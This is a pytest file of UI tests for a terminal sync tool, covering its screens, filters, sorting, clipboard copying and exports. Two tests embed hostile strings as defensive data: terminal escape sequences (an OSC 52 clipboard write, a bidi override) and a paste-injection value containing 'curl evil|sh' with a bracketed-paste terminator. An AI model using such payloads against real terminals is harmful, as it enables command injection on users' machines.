"""What every screen can do, by its keys."""

import asyncio
from functools import partial
from pathlib import Path

import pytest
from textual.content import Content

from tests.ui.demo import Demo
from tests.ui.driver import at_keyboard, settled, text_of
from tests.ui.pair import Log, Pair, Wait, refused
from tests.ui.sample import Member, SampleApp, members
from xtsync_tui.model import Request, Side
from xtsync_tui.ui.app import XtSyncApp
from xtsync_tui.ui.export import MARK
from xtsync_tui.ui.screens.choose import Choose
from xtsync_tui.ui.screens.page import TextPage
from xtsync_tui.ui.widgets.table import Table
from xtsync_tui.workspace.writing import Activity, WriteState

pytestmark = pytest.mark.anyio


@pytest.mark.parametrize("size", [(60, 16), (80, 24), (100, 30), (120, 36), (160, 50)])
async def test_the_frame_is_there_at_every_size(size: tuple[int, int]) -> None:
    async with at_keyboard(SampleApp(), size) as person:
        await person.sees("Ana Lopes", "SOURCE Contoso", "TARGET Fabrikam", "WRITE", ": Go to", "? Help")
        lines = person.lines
        assert lines[0].startswith(" SOURCE Contoso")
        assert lines[1].startswith("[9 People]1")
        assert lines[2].startswith(" People  [All] None")
        assert "@ 0 · 0 waiting" in lines[-2]
        assert lines[-1].startswith(" enter Open")


@pytest.mark.parametrize("size", [(59, 24), (80, 15)])
async def test_a_terminal_too_small_says_what_is_needed(size: tuple[int, int]) -> None:
    async with at_keyboard(SampleApp(), size) as person:
        await person.sees("xtsync needs 60 columns and 16 rows.")
        await person.sees_no("SOURCE")
        await person.pilot.resize_terminal(80, 24)
        await person.sees("SOURCE Contoso", "Ana Lopes")


async def test_the_detail_stands_beside_the_list_or_under_it() -> None:
    async with at_keyboard(SampleApp(), (120, 36)) as person:
        await person.sees("│ Ana Lopes is in Legal.")
        await person.pilot.resize_terminal(80, 24)
        await person.sees("── Ana Lopes ──", "\n Ana Lopes is in Legal.")


async def test_a_digit_goes_to_its_mode_and_a_missing_one_does_nothing() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("[9 People]")
        await person.press("1")
        await person.sees("[1 Setup]")
        await person.press("5")
        await person.sees("[1 Setup]")
        await person.press("9")
        await person.sees("[9 People]")


async def test_an_action_that_cannot_be_done_is_dimmed_and_says_why() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("t Test")
        await person.press("test")
        await person.sees("The job is running already.")
        await person.press("down")
        await person.sees_no("The job is running already.")


async def test_filtering_by_column_and_letting_go_of_it() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Chloé Martin")
        await person.press("filter")
        await person.types("state:failed")
        await person.sees("1 of 3", "Ben Okoro")
        await person.sees_no("Chloé Martin")
        await person.press("enter")
        await person.press("back")
        await person.sees("Chloé Martin")


async def test_while_a_filter_is_typed_the_footer_says_how_it_ends() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Chloé Martin")
        await person.press("filter")
        await person.sees("enter keeps  esc shows all")
        assert person.lines[-1].strip() == "enter keeps  esc shows all"
        await person.types("ben")
        await person.press("enter")
        await person.sees("1 of 3", "t Test")
        await person.press("filter", "back")
        await person.sees("Chloé Martin", "t Test")


async def test_esc_closes_a_filter_that_is_empty() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("filter")
        await person.sees("esc shows all")
        await person.press("back")
        await person.sees("t Test")
        assert not person.app.screen.query_one("#filter").display


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("stat:failed", "No column stat here: name, state, department, seen, users."),
        ("since:soon", "since: takes a time such as 30min, 24h, 7d or 2w."),
    ],
)
async def test_a_filter_that_names_no_column_says_which_there_are(text: str, said: str) -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("filter")
        await person.types(text)
        await person.sees(said, "shows all.")
        await person.sees_no("No row matches")
        await person.press("back")
        await person.sees_no(said)


async def test_many_rows_are_filtered_and_sorted_in_turns_with_the_keys() -> None:
    rows = members(20_000)
    async with at_keyboard(SampleApp(rows=rows)) as person:
        await person.sees("Ana Lopes")
        table = person.app.screen.table
        table.filter("state:failed", person.app.now())
        assert table.arranging
        assert len(table.rows) == 20_000
        await settled(person.pilot, lambda: not table.arranging, "the filter done")
        table.sort("users")
        table.sort("users")
        await settled(person.pilot, lambda: not table.arranging, "the sort done")
        failed = [row for row in rows if "failed" in row.state]
        assert list(table.rows) == sorted(failed, key=lambda row: row.users, reverse=True)


async def test_a_filter_that_finds_nobody_says_how_to_go_on() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("filter")
        await person.types("zzz")
        await person.sees("No row matches zzz. esc shows all.", "0 of 3")


async def test_an_empty_table_names_the_key() -> None:
    async with at_keyboard(SampleApp(rows=[])) as person:
        await person.sees("Nobody here. n adds one.")
        await person.press("export")
        await person.sees("There is nothing to export.")


async def test_sorting_and_sorting_the_other_way() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        for first in ("Ana Lopes", "Ben Okoro"):
            await person.press("sort")
            await person.sees("Sort by")
            await person.press("u", "enter")
            await person.sees_no("Sort by")
            rows = [line for line in person.lines if "active" in line or "failed" in line]
            assert first in rows[0]


async def test_copying_goes_to_the_clipboard_and_says_so() -> None:
    app = SampleApp()
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        await person.press("copy")
        await person.sees("Sent to clipboard")
        assert app.clipboard == "Ana Lopes\tactive\tLegal\t2026-05-14T14:02:16Z\t0"


async def test_marked_rows_are_what_is_copied_and_exported(monkeypatch: pytest.MonkeyPatch) -> None:
    saved: list[str] = []
    app = SampleApp()
    monkeypatch.setattr(app, "save", lambda text, name: saved.append(text))  # noqa: ARG005 - the name is another test's
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        await person.press("down", "mark", "mark")
        await person.press("home", "copy")
        await person.sees("Sent to clipboard")
        assert [line.split("\t")[0] for line in app.clipboard.splitlines()] == ["Ben Okoro", "Chloé Martin"]
        await person.press("copy_as")
        await person.sees("Copy as", "2 marked rows", "row")
        await person.press("back", "export")
        await person.sees("Export 2 marked rows as")
        await person.press("enter")
        await settled(person.pilot, lambda: saved, "an export")
    assert [line.split(",")[0] for line in saved[0].removeprefix(MARK).splitlines()] == [
        "Name",
        "Ben Okoro",
        "Chloé Martin",
    ]


async def test_too_much_for_the_clipboard_opens_as_a_page() -> None:
    app = SampleApp()
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        app.copy("long " * 20_000)
        await person.sees("Too long for the clipboard: select it here", "long long")
        await person.press("back")
        await person.sees("Ana Lopes")


async def test_an_export_holds_what_is_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    saved: list[tuple[str, str]] = []
    app = SampleApp()
    monkeypatch.setattr(app, "save", lambda text, name: saved.append((name, text)))
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        await person.press("filter")
        await person.types("ben")
        await person.press("enter", "export")
        await person.sees("Export what is shown as", "JSON Lines")
        await person.press("m", "enter")
        await settled(person.pilot, lambda: saved, "an export")
    name, text = saved[0]
    assert name == "xtsync-people-20260514-140216.md"
    assert [line for line in text.splitlines() if "Okoro" in line or "Lopes" in line] == [
        "| Ben Okoro | failed | Sales | 2026-05-14T13:02:16Z | 7 |"
    ]


async def test_v_shows_the_requests_whole() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("request")
        await person.sees("PATCH /v1.0/users/1", '"department": "Sales"', "esc Back")
        await person.press("back")
        await person.sees("Ana Lopes")


async def test_colon_goes_by_name() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("goto")
        await person.pilot.press(*"setup")
        await person.sees("Go to Setup")
        await person.press("enter")
        await person.sees("[1 Setup]")


async def test_a_keymap_moves_a_key_and_the_footer_shows_it() -> None:
    async with at_keyboard(SampleApp(keymap={"reload": "f9"})) as person:
        await person.sees("Ana Lopes", "f9 Reload")


async def test_a_running_write_is_said_on_every_screen() -> None:
    pair = Pair()
    request = Request(
        method="PATCH", path="/policies/crossTenantAccessPolicy/partners/7f3c0a51-9d2e-4b6f-8c11-5e0a77d4b2e4"
    )
    pair.writer.activity = Activity(Side.TARGET, "Fabrikam", request, "step 3", 2, 3, 96.0)
    async with at_keyboard(SampleApp(pair)) as person:
        await person.sees(
            "▶ writing to TARGET Fabrikam, 2 of 3: PATCH /policies/crossTenantAccessPolicy/partners/7f3c0a51…"
        )
        await person.press("1")
        await person.sees("[1 Setup]", "▶ writing to TARGET Fabrikam, 2 of 3")


async def test_waiting_for_graph_is_said_and_esc_stops_it() -> None:
    wait = Wait()
    async with at_keyboard(SampleApp(Pair(log=Log(waiting=(wait,))))) as person:
        await person.sees(
            "… Graph asks SOURCE to wait 8 s (GET /auditLogs/provisioning) · esc stops waiting", "1 waiting"
        )
        await person.press("back")
        await settled(person.pilot, lambda: wait.cancelled, "the wait cut short")


async def test_waiting_for_a_turn_within_a_limit_is_not_laid_at_the_door_of_graph() -> None:
    wait = Wait(asked=False)
    async with at_keyboard(SampleApp(Pair(log=Log(waiting=(wait,))))) as person:
        await person.sees("… SOURCE takes 5 of these in 10 s: next in 8 s (GET /auditLogs/provisioning)")


@pytest.mark.parametrize("state", WriteState)
async def test_the_header_says_whether_this_profile_writes(state: WriteState) -> None:
    async with at_keyboard(SampleApp(Pair(write_state=state))) as person:
        await person.sees(f"{state.value}")


async def test_symbols_are_ascii_where_asked() -> None:
    async with at_keyboard(SampleApp(ascii=True)) as person:
        await person.sees("v active", "x failed", "> Ana Lopes")
        assert "✓" not in text_of(person.app)


async def test_hostile_text_does_not_reach_the_terminal() -> None:
    rows = [row.__class__(1, "A\x1b]52;c;eA==\x07[/red]\u202eB\u200b" + "x" * 10_000) for row in members(1)]
    async with at_keyboard(SampleApp(rows=rows), (80, 24)) as person:
        await person.sees("A␛]52;c;eA==␇[/red]")
        shown = text_of(person.app)
        assert not {char for char in shown if char != "\n" and not char.isprintable()}


async def test_a_page_of_text_scrolls_and_copies() -> None:
    app = SampleApp()
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        await app.push_screen(TextPage("Raw", Content("first\n" + "more\n" * 100 + "last"), "102 lines"))
        await person.sees("Raw", "first", "102 lines")
        await person.press("end")
        await person.sees("last")
        await person.press("copy")
        await settled(person.pilot, lambda: app.clipboard.endswith("last"), "all of it in the clipboard")


def holds(file: Path, text: str) -> bool:
    return text in file.read_text()


async def test_an_export_says_where_it_is_also_on_a_server_without_downloads(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    folders = [tmp_path / "none", tmp_path / "there"]
    folders[1].mkdir()
    for folder, place in zip(folders, (tmp_path, folders[1]), strict=True):
        monkeypatch.setattr("xtsync_tui.ui.app.user_downloads_path", partial(Path, folder))
        async with at_keyboard(SampleApp()) as person:
            await person.sees("Ana Lopes")
            await person.press("export")
            await person.sees("Export what is shown as")
            await person.press("enter")
            await person.sees("Exported to")
            (file,) = place.glob("xtsync-*.csv")
            await settled(person.pilot, partial(holds, file, "Ana Lopes"), "the rows")


async def test_an_export_that_cannot_be_written_says_why(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr("xtsync_tui.ui.app.user_downloads_path", lambda: tmp_path)
    app = SampleApp()
    async with at_keyboard(app) as person:
        await person.sees("Ana Lopes")
        app.save("text", "no/such/folder.csv")
        await person.sees("Not exported:", "No such file or directory")


async def test_a_span_that_is_too_long_for_any_calendar_is_said_to_be_none() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        await person.press("filter")
        await person.types("since:999999999d")
        await person.sees("since: takes a time such as 30min, 24h, 7d or 2w.")


async def test_filtering_without_a_connection_finds_nothing_and_goes_on() -> None:
    async with at_keyboard(XtSyncApp(refused)) as person:
        await person.sees("No emulator answers")
        await person.press("filter")
        await person.types("a")
        await person.press("back")
        await person.sees("No emulator answers")


async def test_a_dialog_is_not_opened_over_the_screen_to_which_somebody_went_meanwhile() -> None:
    async with at_keyboard(Demo("configured").app()) as person:
        await person.sees("Setup")
        await person.press("3")
        await person.sees("Also here")
        screen = person.app.screen
        await person.press("2")
        await person.sees("Needs attention")
        assert await screen.open_dialog(Choose("Which?", [("a", "A")])) is None
        await person.press("3")
        await person.sees("You went elsewhere before it was ready")


async def test_a_page_of_many_lines_is_drawn_as_it_scrolls() -> None:
    app = SampleApp()
    async with at_keyboard(app, (80, 24)) as person:
        await person.sees("Ana Lopes")
        lines = [f"line {at} " + "word " * (30 if at % 100 == 0 else 1) for at in range(5_000)]
        app.push_screen(TextPage("Many", Content("\n".join(lines))))
        await person.sees("line 0 word", "line 15 word")
        assert max(len(line.rstrip()) for line in person.lines) <= 80
        await person.press("end")
        await person.sees("line 4999 word")
        await person.press("home")
        await person.sees("line 0 word")


async def test_a_long_list_of_choices_is_searched_by_typing() -> None:
    async with at_keyboard(SampleApp()) as person:
        await person.sees("Ana Lopes")
        names = [f"extensionAttribute{at}" for at in range(1, 16)] + ["department", "employeeDepartment"]
        taken: list[str | None] = []
        person.app.push_screen(Choose("Attribute", [(name, name) for name in names]), taken.append)
        await person.sees("17 of 17")
        await person.types("depart")
        await person.sees("2 of 17", "▌ department")
        await person.press("down")
        await person.sees("▌ employeeDepartment")
        await person.types("x")
        await person.sees("Nothing has that in its name.")
        await person.press("enter", "backspace", "enter")
        await settled(person.pilot, lambda: taken == ["department"], "what was chosen")


@pytest.mark.parametrize("size", [(50, 14), (20, 4), (1, 1)])
async def test_a_terminal_that_was_too_small_for_a_moment_keeps_the_focus(size: tuple[int, int]) -> None:
    async with at_keyboard(Demo("configured").app(), (80, 24)) as person:
        await person.press("9")
        await person.sees("Type a name or an address")
        await person.pilot.resize_terminal(*size)
        await person.pilot.resize_terminal(80, 24)
        await person.types("pri")
        await person.sees("Priya Nair")
        await person.press("back", "4")
        await person.sees("Contoso to Fabrikam")
        await person.pilot.resize_terminal(*size)
        await person.pilot.resize_terminal(80, 24)
        await person.press("open")
        await person.sees("Object actions")


async def test_a_terminal_that_is_too_small_says_what_it_needs() -> None:
    async with at_keyboard(Demo("configured").app(), (50, 14)) as person:
        await person.sees("xtsync needs 60 columns and 16 rows.")
        await person.sees_no("SOURCE")


async def test_what_is_copied_holds_nothing_that_nobody_saw() -> None:
    app = SampleApp()
    evil = Member(7, "x\r\ncurl evil|sh\x1b[201~\tand a tab", department="\u202egnp")
    async with at_keyboard(app, (160, 36)) as person:
        await person.sees("Ana Lopes")
        person.app.screen.query_one(Table).set_rows([evil])
        await person.press("copy")
        await person.sees("Sent to clipboard")
        assert app.clipboard.count("\t") == 4
        assert "\n" not in app.clipboard
        app.copy("two\nlines\x1b[31m\x9b")
        assert app.clipboard == "two\nlines␛[31m\ufffd"


async def test_a_screen_to_which_one_comes_reads_what_was_written_though_another_write_runs() -> None:
    demo = Demo("configured")
    async with at_keyboard(demo.app()) as person:
        await person.press("3")
        await person.sees("Also here")
        screen = person.app.screen
        await person.press("2")
        await person.sees("Needs attention")
        demo.workspace.writer.changes += 1
        release = asyncio.Event()
        person.app.run_worker(person.app.writes.run("a long import", release.wait))
        await settled(person.pilot, lambda: person.app.writes.words)
        before = screen._looked
        demo.seconds += 5
        await person.press("3")
        await settled(person.pilot, lambda: screen._looked > before, "it was read again")
        release.set()


async def test_what_is_said_of_a_copy_covers_neither_the_rows_nor_the_status_line() -> None:
    async with at_keyboard(SampleApp(), (80, 24)) as person:
        await person.sees("▌ Ana Lopes")
        before = person.lines
        await person.press("copy")
        await person.sees("Sent to clipboard")
        assert person.lines[1].endswith("▌ Sent to clipboard ")
        assert [*person.lines[:1], *person.lines[2:]] == [*before[:1], *before[2:]]
